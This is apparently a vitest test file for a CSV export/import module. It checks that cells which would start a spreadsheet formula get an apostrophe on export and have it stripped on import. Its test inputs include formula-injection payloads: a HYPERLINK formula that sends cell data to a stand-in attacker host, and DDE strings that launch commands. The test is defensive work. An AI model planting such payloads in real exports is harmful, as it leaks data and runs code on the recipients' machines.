import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CellValue, parseCell } from './cells.ts';
import { readRows, validateFolder } from './read.ts';
import { memorySource } from './source.ts';
import { FILE_BY_KIND, FILES } from './spec.ts';
import { cellText, formatFolder, formatRow } from './write.ts';

/** Formula injection (docs/exchange.md, "Formula injection"): what the exchange writer and reader do. */
const FORMULA = /^[=+\-@\t\r]/;
const persons = FILE_BY_KIND.persons;
const agencies = FILE_BY_KIND.agencies;
const col = (name: string) => persons.columns.find((c) => c.name === name)!;

/** Text the contract allows in a cell (no NUL, no U+FFFD), mostly built from the characters the rule reads. */
const textArb = fc
  .oneof(
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
    fc
      .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', 'a', ' ', '"', ',', '1', 'ñ'), {
        minLength: 1,
        maxLength: 10,
      })
      .map((cs) => cs.join('')),
  )
  .filter((s) => !s.includes('\0') && !s.includes('\uFFFD'));

/** Cells of a CSV text (RFC 4180). */
const cellsOf = (text: string): string[][] => parse(text, { relax_column_count: true }) as string[][];

async function readBack(files: Record<string, string>, kind: keyof typeof FILE_BY_KIND) {
  const list: CellValue[][] = [];
  await readRows(memorySource(files, 5), FILE_BY_KIND[kind], (r) => {
    list.push(r.values);
  });
  return list;
}

describe('exchange export: formula injection', () => {
  it('text cells that start a formula are written with a leading apostrophe; typed cells never', () => {
    const values = persons.columns.map((c) => {
      switch (c.name) {
        case 'person_id':
          return '=cmd|x';
        case 'agency_id':
          return 'fgr';
        case 'given_names':
          return '=HYPERLINK("http://evil.example/?"&A1,"Ver")';
        case 'surname_1':
          return "+cmd|' /C calc'!A0";
        case 'surname_2':
          return '@SUM(A1:A9)';
        case 'phone':
          return '-1+2';
        case 'email':
          return '\tx@example.test';
        case 'address':
          return '\rCalle 5';
        default:
          return null;
      }
    });
    const line = formatRow(persons, values);
    const cells = cellsOf(line)[0]!;
    expect(cells).toHaveLength(persons.columns.length);
    for (const c of cells) expect(c).not.toMatch(FORMULA);
    expect(cells[persons.columns.indexOf(col('given_names'))]).toBe(
      `'=HYPERLINK("http://evil.example/?"&A1,"Ver")`,
    );
    expect(cells[0]).toBe("'=cmd|x");
    // A negative number in a typed cell stays a number.
    const conv = FILE_BY_KIND.convictions;
    const fine = conv.columns.findIndex((c) => c.name === 'sentence_months');
    expect(cellText(conv.columns[fine]!, '-5')).toBe('-5');
    expect(cellText(col('phone'), '-5')).toBe("'-5");
  });

  it('the reader strips exactly the apostrophe the writer added, only in text cells', () => {
    expect(parseCell(col('given_names'), "'=1+1")).toEqual({ ok: true, value: '=1+1' });
    expect(parseCell(col('given_names'), "''=1+1")).toEqual({ ok: true, value: "'=1+1" });
    expect(parseCell(col('given_names'), "'tis")).toEqual({ ok: true, value: "'tis" });
    expect(parseCell(col('given_names'), '=1+1')).toEqual({ ok: true, value: '=1+1' });
    expect(parseCell(col('person_id'), `'${'='.repeat(64)}`)).toEqual({ ok: true, value: '='.repeat(64) });
    expect(parseCell(col('person_id'), `'${'='.repeat(65)}`)).toMatchObject({
      ok: false,
      code: 'invalid_id',
    });
    // typed cells are not text: an apostrophe there is an error, as before
    expect(parseCell(col('birth_date'), "'-2000")).toMatchObject({ ok: false });
    const months = FILE_BY_KIND.convictions.columns.find((c) => c.name === 'sentence_months')!;
    expect(parseCell(months, "'-5")).toMatchObject({ ok: false, code: 'invalid_integer' });
  });

  it('export → import round-trips any text in every text column (property)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(textArb, textArb, textArb), { minLength: 1, maxLength: 6 }),
        async (ts) => {
          const agencyRow = agencies.columns.map((c) =>
            c.name === 'agency_id' ? ts[0]![0].slice(0, 60) : c.name === 'name' ? ts[0]![1] : null,
          );
          agencyRow[agencies.columns.findIndex((c) => c.name === 'level')] = 'ngo';
          agencyRow[agencies.columns.findIndex((c) => c.name === 'kind')] = 'other';
          agencyRow[agencies.columns.findIndex((c) => c.name === 'country')] = 'MEX';
          const rows = ts.map(([a, b, c], i) =>
            persons.columns.map((cd) => {
              if (cd.name === 'person_id') return `${a.slice(0, 58)}#${i}`;
              if (cd.name === 'agency_id') return agencyRow[0];
              if (cd.type === 'text') return cd.name === 'address' ? `${b}${c}` : cd.name === 'phone' ? c : b;
              return null;
            }),
          );
          const files = formatFolder({ agencies: [agencyRow], persons: rows });
          const res = await validateFolder(memorySource(files, 3));
          expect(res.errors).toEqual([]);
          expect(await readBack(files, 'agencies')).toEqual([agencyRow]);
          expect(await readBack(files, 'persons')).toEqual(rows);
          // and no cell of any file starts a formula
          for (const def of FILES)
            for (const record of cellsOf(files[def.file]!))
              for (const c of record) expect(c).not.toMatch(FORMULA);
        },
      ),
      { numRuns: 300 },
    );
  });
});
